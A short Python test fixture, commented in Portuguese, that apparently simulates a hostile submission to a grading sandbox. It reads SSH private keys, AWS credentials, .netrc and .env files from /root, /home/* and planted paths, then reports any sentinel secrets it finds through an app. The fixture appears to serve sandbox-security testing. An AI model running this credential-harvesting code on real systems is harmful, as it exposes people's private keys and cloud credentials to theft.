"""Entrega hostil: procura arquivos na home de quem corrige (chaves SSH, credenciais de nuvem...).

O teste diz onde plantou uma "chave" (alvos.json); a entrega tenta também /root e /home/*.
"""
from pathlib import Path

from relato import TARGETS, app_with, read, sentinels

candidates = [Path(p) for p in TARGETS.get("home_files", [])]
for home in [Path("/root"), *Path("/home").glob("*")]:
    for relative in (".ssh/id_rsa", ".ssh/id_ed25519", ".aws/credentials", ".netrc", ".env"):
        candidates.append(home / relative)
texts = {str(path): read(path) for path in candidates}
found = sentinels("\n".join(texts.values()))
REPORT = {"lidos": sum(bool(t) for t in texts.values()), "segredos": len(found)}
app = app_with(REPORT, " ".join(sorted(found)))
